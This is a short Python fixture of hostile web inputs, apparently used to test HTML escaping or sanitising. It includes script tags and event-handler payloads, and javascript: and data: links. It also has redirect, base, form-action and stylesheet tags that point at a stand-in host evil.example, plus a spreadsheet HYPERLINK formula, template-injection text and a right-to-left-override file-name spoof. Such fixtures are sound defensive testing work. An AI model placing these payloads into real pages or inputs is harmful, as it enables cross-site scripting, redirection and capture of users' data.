"""Payloads that would do something on a page that let them."""

NASTY = {
    "html": "<b>bold</b><script>alert(1)</script>",
    "attribute": '" onmouseover="alert(1)" x=\'',
    "image": "<img src=//evil.example/a.png onerror=alert(1)>",
    "frame": "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe><object data=//evil.example></object>",
    "head": "<base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example/><link rel=stylesheet href=//evil.example/>",
    "form": "</dl></section><form action=//evil.example/><button data-key=y>Yes</button></form>",
    "style": "<style>@import '//evil.example/a.css'; main { display: none }</style>",
    "svg": "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "template": "{{ 7 * 7 }}{% raw %}",
    "javascript link": "javascript:alert(1)",
    "data link": "data:text/html,<script>alert(1)</script>",
    "user link": "https://good.example@evil.example/",
    "formula": '=HYPERLINK("http://evil")',
    "control": "a\x00b\x1b[31mred\x07\x9b",
    "turned": "abc\u202egpj.exe\u2066x",
    "document": {"<i>": ["<u>", 1, None]},
}
PIXEL = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
"""A picture of one pixel, as data."""
